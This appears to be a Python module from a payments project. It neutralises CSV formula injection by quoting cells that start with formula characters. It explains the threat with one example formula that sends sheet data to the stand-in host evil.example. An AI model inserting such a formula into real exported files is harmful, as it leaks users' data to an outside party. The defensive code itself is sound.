"""CSV that a spreadsheet opens as data, never as a formula.

A cell whose text starts with "=", "+", "-", "@", a tab or a carriage return is
evaluated by Excel, LibreOffice and Google Sheets as a formula, which can link out
(``=HYPERLINK("http://evil.example/?"&A1)`` sends the sheet's data away) or, through
DDE, run a command. As OWASP's "CSV Injection" page recommends, such text gets a
leading single quote, which spreadsheets read as "this cell is text". ``csv.writer``
still quotes any cell holding a comma, a quote or a line break, so the quote and
the text stay one cell.

Only text is touched: numbers (a debit's -500 stays -500), dates and empty cells
are written as they are. So is text that is wholly a signed whole number, such as
an E.164 phone number ("+14155550123"): a spreadsheet reads it as that number at
worst, and a quote would change the column for every program that reads the file.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_WHOLE_NUMBER = re.compile(r"[+-][0-9]+")


def spreadsheet_safe(cell: Any) -> Any:
    """``cell``, with a leading "'" if it is text a spreadsheet would evaluate."""
    if (
        isinstance(cell, str)
        and cell.startswith(FORMULA_STARTS)
        and not SIGNED_WHOLE_NUMBER.fullmatch(cell)
    ):
        return "'" + cell
    return cell


class SpreadsheetSafeWriter:
    """``csv.writer`` whose every cell goes through ``spreadsheet_safe``: the one
    way PayLedger writes CSV."""

    def __init__(self, file):
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
